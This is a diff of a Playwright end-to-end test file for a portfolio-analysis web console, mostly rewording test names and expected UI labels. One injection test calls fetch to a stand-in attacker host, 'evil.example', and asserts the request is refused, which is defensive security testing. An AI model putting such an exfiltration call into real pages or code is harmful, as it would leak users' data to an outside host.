@@ -1,4 +1,4 @@
-"""What the pages tell is what the API says, on every screen, in both themes, for everybody."""
+"""The pages show the data of the API, on every screen, in both themes, accessibly."""
 
 import re
 from datetime import date
@@ -11,7 +11,7 @@ from playwright.sync_api import Browser, Locator, Route, expect
 from tests.console.site import Site, Visitor, is_phone
 from tests.end_to_end.app import BASE, running_app
 
-# Once what was rendered last has been laid out: all shifts there were, which the browser keeps.
+# The sum of all layout shifts so far, after the last rendering has been laid out.
 SHIFTS = """
 () => new Promise((done) => requestAnimationFrame(() => setTimeout(() => {
   const observer = new PerformanceObserver(() => {});
@@ -30,7 +30,7 @@ SORTS = (
 
 @pytest.fixture(scope="module")
 def runs(site: Site) -> tuple[str, str]:
-    """Two runs over all users, of different days."""
+    """Two runs of all users, as of different days."""
     return site.app.run(as_of="2022-06-01")["run_id"], site.app.run()["run_id"]
 
 
@@ -50,23 +50,23 @@ def region(reader: Visitor, name: str) -> Locator:
     return reader.page.get_by_role("region", name=name, exact=True)
 
 
-def test_the_overview_tells_the_last_run_the_next_and_the_health(reader: Visitor, site: Site, run_id: str) -> None:
+def test_the_overview_shows_the_last_run_the_next_and_the_health(reader: Visitor, site: Site, run_id: str) -> None:
     run = site.app.status(run_id)
-    standing = region(reader, "How things stand")
+    standing = region(reader, "Status")
     expect(standing).to_contain_text(f"{run['users_failed']} users failed")
-    expect(standing).to_contain_text(f"{run['users_analyzed']} portfolios analysed")
+    expect(standing).to_contain_text(f"{run['users_analyzed']} portfolios analyzed")
     expect(region(reader, "Next run")).to_contain_text("01:00 UTC")
-    expect(region(reader, "Next run")).to_contain_text("02:00 here")
-    expect(region(reader, "Health")).to_contain_text("DatabaseAnswers")
+    expect(region(reader, "Next run")).to_contain_text("02:00 local time")
+    expect(region(reader, "Health")).to_contain_text("DatabaseConnected")
     expect(region(reader, "History").get_by_role("link")).to_have_count(2)
     region(reader, "History").get_by_role("link").last.click()
     reader.page.wait_for_url(f"**/console#/runs/{run_id}")
 
 
-def test_where_the_nightly_timer_is_disabled_no_night_is_announced(browser: Browser, tmp_path: Path) -> None:
+def test_a_disabled_nightly_timer_has_no_next_run(browser: Browser, tmp_path: Path) -> None:
     with running_app(tmp_path, **{"AzureWebJobs.nightly_analysis.Disabled": "1"}) as app:
-        told = app.client.get(f"{BASE}/schedule").json()
-        assert told == {"schedule": "0 0 1 * * *", "previous": None, "next": None, "disabled": True}
+        schedule = app.client.get(f"{BASE}/schedule").json()
+        assert schedule == {"schedule": "0 0 1 * * *", "previous": None, "next": None, "disabled": True}
         visitor = Visitor.arrive(browser, Site(app, cast("Any", None), cast("Any", None)))
         visitor.open()
         visitor.sign_in()
@@ -77,7 +77,7 @@ def test_where_the_nightly_timer_is_disabled_no_night_is_announced(browser: Brow
 
 
 def lists(reader: Visitor, users: list[str]) -> None:
-    """Wait for the list to name these users, in this order, and no others."""
+    """Wait until exactly these users are listed, in this order."""
     expect(reader.page.locator("tbody th a")).to_have_text(users)
     reader.settle()
 
@@ -100,34 +100,34 @@ def test_portfolios_are_searched_filtered_and_sorted_as_the_api_does(reader: Vis
     page.get_by_label("Status").select_option(label="Failed")
     lists(reader, ["xena-corrupt-holding", "yuri-corrupt-account"])
     page.get_by_label("Status").select_option(label="All")
-    page.get_by_label("Check crossed").select_option(label="Drawdown")
-    page.get_by_label("How far").select_option(label="Breach")
+    page.get_by_label("Flagged check").select_option(label="Drawdown")
+    page.get_by_label("Severity").select_option(label="Breach")
     query = {"sort": "max_drawdown", "order": "asc"}
     lists(reader, listed(site, run_id, check="drawdown:breach", **query))
-    page.get_by_label("Check crossed").select_option(label="Any or none")
-    page.get_by_label("User id begins with").press_sequentially("sam")
+    page.get_by_label("Flagged check").select_option(label="All")
+    page.get_by_label("User ID starts with").press_sequentially("sam")
     lists(reader, ["sam-stale-share"])
-    page.get_by_label("User id begins with").fill("nobody")
-    expect(page.get_by_text("Nobody fits")).to_be_visible()
+    page.get_by_label("User ID starts with").fill("nobody")
+    expect(page.get_by_text("No matches")).to_be_visible()
 
 
-def test_a_view_of_portfolios_can_be_linked_to(reader: Visitor, site: Site, run_id: str) -> None:
+def test_a_view_of_portfolios_has_a_link(reader: Visitor, site: Site, run_id: str) -> None:
     reader.go(f"/runs/{run_id}/portfolios?status=analyzed&check=volatility&sort=market_value&order=desc&search=e")
     query = {"check": "volatility", "user_id_prefix": "e", "sort": "market_value", "order": "desc"}
     lists(reader, listed(site, run_id, **query))
-    expect(reader.page.get_by_label("User id begins with")).to_have_value("e")
-    expect(reader.page.get_by_label("Check crossed")).to_have_value("volatility")
+    expect(reader.page.get_by_label("User ID starts with")).to_have_value("e")
+    expect(reader.page.get_by_label("Flagged check")).to_have_value("volatility")
 
 
 def test_a_filter_chosen_right_after_typing_stays_chosen(reader: Visitor, run_id: str) -> None:
     reader.go(f"/runs/{run_id}/portfolios")
     reader.settle()
-    reader.page.get_by_label("User id begins with").fill("x")
+    reader.page.get_by_label("User ID starts with").fill("x")
     reader.page.get_by_label("Status").select_option(label="Failed")
     reader.led_to(f"/runs/{run_id}/portfolios?search=x&status=failed")
 
 
-def test_a_page_that_a_link_leads_to_begins_at_its_top(reader: Visitor, run_id: str) -> None:
+def test_a_linked_page_opens_at_its_top(reader: Visitor, run_id: str) -> None:
     reader.go(f"/runs/{run_id}/portfolios")
     last = reader.page.get_by_role("link", name="zoe-admin")
     last.scroll_into_view_if_needed()
@@ -137,7 +137,7 @@ def test_a_page_that_a_link_leads_to_begins_at_its_top(reader: Visitor, run_id: 
     reader.page.wait_for_function("scrollY === 0")
 
 
-def test_many_portfolios_are_turned_over_page_by_page(reader: Visitor, site: Site, run_id: str) -> None:
+def test_many_portfolios_are_shown_in_pages(reader: Visitor, site: Site, run_id: str) -> None:
     many = "run_20200101_000000_aaaa"
     run = site.database.portfolio_analysis_runs.find_one({"run_id": run_id}, {"_id": False}) or {}
     line = site.database.portfolio_summaries.find_one({"run_id": run_id, "user_id": "ada-allrounder"}, {"_id": False})
@@ -159,43 +159,41 @@ def test_many_portfolios_are_turned_over_page_by_page(reader: Visitor, site: Sit
     site.database.portfolio_analysis_runs.delete_one({"run_id": many})
 
 
-def test_a_portfolio_tells_the_figures_of_its_report(reader: Visitor, site: Site, run_id: str) -> None:
+def test_a_portfolio_shows_the_figures_of_its_report(reader: Visitor, site: Site, run_id: str) -> None:
     report = site.app.report(run_id, "ada-allrounder")
     reader.go(f"/runs/{run_id}/portfolios/ada-allrounder")
     reader.headed("ada-allrounder")
     total = report["valuation"]["market_value"] + report["valuation"]["cash"]
     expect(reader.page.locator(".figures").first).to_contain_text(f"${total:,.0f}")
-    risk = region(reader, "Risk in plain words")
+    risk = region(reader, "Risk")
     expect(risk).to_contain_text(f"{report['risk']['annual_volatility']:.1%}")
-    expect(risk).to_contain_text("On one day in twenty it loses")
+    expect(risk).to_contain_text("On one day in twenty, the portfolio loses")
     crossed = [check for check in report["checks"] if check["status"] != "ok"]
     assert crossed
     for check in crossed:
         expect(region(reader, "Checks")).to_contain_text(check["message"])
     expect(region(reader, "Holdings").locator("tbody tr")).to_have_count(len(report["holdings"]))
-    expect(region(reader, "Stress")).to_contain_text("Covid crash 2020")
+    expect(region(reader, "Stress tests")).to_contain_text("Covid crash 2020")
     known = [entry for entry in report["stress"] if entry["return"] is not None]
     assert len(known) < len(report["stress"])
-    expect(region(reader, "Stress").locator(".bar")).to_have_count(len(known))
+    expect(region(reader, "Stress tests").locator(".bar")).to_have_count(len(known))
     for order in report["order_plan"]["orders"]:
         expect(region(reader, "Order plan")).to_contain_text(order["symbol"])
-    expect(region(reader, "Growth of today's mix").locator("canvas")).to_be_visible()
-    correlations = region(reader, "Correlation of the holdings")
+    expect(region(reader, "Growth of the current portfolio").locator("canvas")).to_be_visible()
+    correlations = region(reader, "Correlation of holdings")
     expect(correlations.locator("tbody tr")).to_have_count(len(report["holdings"]))
 
 
-def test_the_lines_can_be_followed_by_the_keyboard_and_read_as_a_table(
-    reader: Visitor, site: Site, run_id: str
-) -> None:
+def test_charts_can_be_read_with_the_keyboard_and_as_a_table(reader: Visitor, site: Site, run_id: str) -> None:
     reader.go(f"/runs/{run_id}/portfolios/ada-allrounder")
     report = site.app.report(run_id, "ada-allrounder")
     gained = f"{report['performance']['cumulative_return']:.0%}"
-    growth = region(reader, "Growth of today's mix")
+    growth = region(reader, "Growth of the current portfolio")
     chart = growth.get_by_role("slider")
     expect(chart).to_have_attribute("aria-valuetext", re.compile(f"28 Dec 2022: .*, Portfolio {gained}"))
     start = date.fromisoformat(report["performance"]["start"]).strftime("%-d %b %Y")
     reader.settle()
-    reader.page.mouse.move(0, 0)  # the figures at the pointer would be told, too
+    reader.page.mouse.move(0, 0)  # otherwise the values at the pointer are shown
     chart.focus()
     chart.press("Home")
     expect(chart).to_have_attribute("aria-valuetext", f"{start}: Benchmark 0%, Portfolio 0%")
@@ -206,56 +204,54 @@ def test_the_lines_can_be_followed_by_the_keyboard_and_read_as_a_table(
     expect(chart).to_have_attribute("aria-valuetext", f"{start}: Benchmark 0%, Portfolio 0%")
     chart.press("ArrowRight")
     expect(chart).to_have_attribute("aria-valuenow", "1")
-    growth.get_by_text("As a table").click()
+    growth.get_by_text("View as table").click()
     expect(growth.get_by_role("row").last).to_contain_text(gained)
 
 
-def test_a_portfolio_tells_what_changed_since_the_run_before(
+def test_a_portfolio_shows_the_changes_since_its_last_report(
     reader: Visitor, site: Site, runs: tuple[str, str]
 ) -> None:
     reader.go(f"/runs/{runs[1]}/portfolios/ada-allrounder")
-    changes = region(reader, "Since the last run")
+    changes = region(reader, "Changes since last report")
     for number in runs:
         valuation = site.app.report(number, "ada-allrounder")["valuation"]
         expect(changes).to_contain_text(f"${valuation['market_value'] + valuation['cash']:,.0f}")
     changes.get_by_role("link").click()
     reader.page.wait_for_url(f"**/runs/{runs[0]}/portfolios/ada-allrounder")
-    expect(region(reader, "Since the last run")).to_contain_text("Nothing to compare with")
+    expect(region(reader, "Changes since last report")).to_contain_text("No earlier report")
 
 
 @pytest.mark.parametrize(
-    ("user_id", "says"),
+    ("user_id", "text"),
     [
-        ("walt-underwater", "worth nothing or less"),
-        ("tess-stale-mostly", "Less than half of the value has enough fresh price history"),
-        ("nell-nothing-held", "There is cash, but nothing is held."),
+        ("walt-underwater", "zero or negative"),
+        ("tess-stale-mostly", "Less than half of the value has enough recent price history"),
+        ("nell-nothing-held", "The portfolio has no holdings."),
         ("yuri-corrupt-account", "cash is not a number"),
-        ("otto-onlooker", "No report here"),
+        ("otto-onlooker", "No report"),
     ],
 )
-def test_a_report_that_lacks_something_says_why(reader: Visitor, run_id: str, user_id: str, says: str) -> None:
+def test_an_incomplete_report_shows_the_reason(reader: Visitor, run_id: str, user_id: str, text: str) -> None:
     reader.expected.add("status of 404")
     reader.go(f"/runs/{run_id}/portfolios/{user_id}")
     reader.headed(user_id)
-    expect(reader.page.get_by_role("main")).to_contain_text(says)
+    expect(reader.page.get_by_role("main")).to_contain_text(text)
 
 
-def test_a_reader_elsewhere_sees_figures_as_written_there_in_sentences_of_one_language(
-    browser: Browser, site: Site, run_id: str
-) -> None:
+def test_figures_follow_the_users_locale_and_sentences_stay_english(browser: Browser, site: Site, run_id: str) -> None:
     visitor = Visitor.arrive(browser, site, locale="de-DE")
     visitor.open(f"/runs/{run_id}/portfolios/ada-allrounder")
     visitor.sign_in()
     report = site.app.report(run_id, "ada-allrounder")
     volatility = f"{report['risk']['annual_volatility']:.1%}".replace(".", ",").replace("%", "\N{NO-BREAK SPACE}%")
-    expect(region(visitor, "Risk in plain words")).to_contain_text(volatility)
+    expect(region(visitor, "Risk")).to_contain_text(volatility)
     visitor.go("/")
     expect(region(visitor, "Next run")).to_contain_text(re.compile(r"in (\d+ (hour|minute)s?|less than a minute)"))
     visitor.leave()
 
 
-@pytest.mark.parametrize(("place", "name"), [("", "Where the time went"), ("/portfolios/ada-allrounder", "Stress")])
-def test_the_longest_bar_is_as_long_as_there_is_room(reader: Visitor, run_id: str, place: str, name: str) -> None:
+@pytest.mark.parametrize(("place", "name"), [("", "Duration by phase"), ("/portfolios/ada-allrounder", "Stress tests")])
+def test_the_longest_bar_fills_its_column(reader: Visitor, run_id: str, place: str, name: str) -> None:
     reader.go(f"/runs/{run_id}{place}")
     card = region(reader, name)
     expect(card.locator(".bar").first).to_be_attached()
@@ -263,7 +259,7 @@ def test_the_longest_bar_is_as_long_as_there_is_room(reader: Visitor, run_id: st
     reader.page.wait_for_function(f"(card) => {longest} > 0.15 * card.offsetWidth", arg=card.element_handle())
 
 
-def test_the_audit_log_tells_who_started_what(reader: Visitor, run_id: str) -> None:
+def test_the_audit_log_shows_the_start_of_a_run_with_its_user(reader: Visitor, run_id: str) -> None:
     reader.page.get_by_role("link", name="Audit log").click()
     reader.headed("Audit log")
     entry = reader.page.get_by_role("row").filter(has_text=run_id)
@@ -275,13 +271,13 @@ def test_the_audit_log_tells_who_started_what(reader: Visitor, run_id: str) -> N
 
 
 @pytest.mark.parametrize("place", ["/nowhere", "/runs/run_20200101_000000_abcd", "/runs/x/y/z"])
-def test_a_link_that_leads_nowhere_says_so(reader: Visitor, place: str) -> None:
+def test_an_unknown_address_shows_not_found(reader: Visitor, place: str) -> None:
     reader.expected.add("status of 404")
     reader.go(place)
-    expect(reader.page.get_by_role("main")).to_contain_text("There is no such")
+    expect(reader.page.get_by_role("main")).to_contain_text("not found")
 
 
-def test_the_keyboard_alone_leads_from_the_overview_to_a_portfolio(reader: Visitor, run_id: str) -> None:
+def test_a_portfolio_is_reached_from_the_overview_with_the_keyboard_alone(reader: Visitor, run_id: str) -> None:
     page = reader.page
 
     def tab_to(text: str) -> None:
@@ -292,10 +288,10 @@ def test_the_keyboard_alone_leads_from_the_overview_to_a_portfolio(reader: Visit
             page.keyboard.press("Tab")
             if link.evaluate("link => link === document.activeElement"):
                 return
-        raise AssertionError(f"the keyboard never reached {text}")
+        raise AssertionError(f"the focus never reached {text}")
 
     reader.begun("Overview")
-    tab_to("Its portfolios")
+    tab_to("View portfolios")
     page.keyboard.press("Enter")
     reader.led_to(f"/runs/{run_id}/portfolios")
     reader.begun("Portfolios")
@@ -329,7 +325,7 @@ def test_every_page_is_accessible_steady_and_fits_its_screen(
         visitor.page.evaluate("document.querySelectorAll('details').forEach((all) => { all.open = true; })")
         flaws[place] = visitor.flaws()
         if visitor.page.evaluate("document.documentElement.scrollWidth > innerWidth"):
-            flaws[place].append("it is wider than the screen")
+            flaws[place].append("wider than the screen")
     visitor.go("/start")
     visitor.page.get_by_role("button", name="Continue").click()
     expect(visitor.page.get_by_role("dialog")).to_be_visible()
@@ -345,7 +341,7 @@ def test_nothing_jumps_while_a_page_is_loaded(browser: Browser, site: Site, run_
     visitor.sign_in(keep=True)
     visitor.headed("Overview")
     visitor.go(what.format(run_id))
-    # However fast the app is: what stands there before it has answered is seen, and so is each answer that comes late.
+    # Responses are held back, so that the placeholders and each late response are measured.
     held: list[Route] = []
     is_held = True
     visitor.page.route("**/api/**/portfolio/**", lambda route: held.append(route) if is_held else route.continue_())
@@ -399,16 +395,16 @@ def test_an_injected_script_or_style_does_nothing(reader: Visitor) -> None:
     assert set(found) == {"html", "script", "elsewhere", "timer"}
     leaked = reader.page.evaluate("fetch('https://evil.example/').then(() => 'sent', () => 'refused')")
     assert leaked == "refused"
-    assert reader.page.evaluate("window.injected") is None  # all of it was refused at once, nothing is left to come
+    assert reader.page.evaluate("window.injected") is None  # everything was refused at once, nothing is pending
     expect(reader.page.get_by_role("main")).to_be_visible()
 
 
-def test_a_change_by_part_of_a_share_is_told(reader: Visitor, site: Site) -> None:
+def test_a_change_by_a_fraction_of_a_share_is_shown(reader: Visitor, site: Site) -> None:
     whose = {"user_id": "uma-fractions", "symbol": "AAPL"}
     site.database.holdings.update_one(whose, {"$set": {"quantity": 3.25}})
     run = site.app.run(user_ids=["uma-fractions"])
     site.database.holdings.update_one(whose, {"$set": {"quantity": 3.14159}})
     reader.go(f"/runs/{run['run_id']}/portfolios/uma-fractions")
-    change = region(reader, "Since the last run").get_by_role("row").filter(has_text="AAPL")
+    change = region(reader, "Changes since last report").get_by_role("row").filter(has_text="AAPL")
     expect(change).to_contain_text("3.14159 shares")
     expect(change).to_contain_text("3.25 shares")
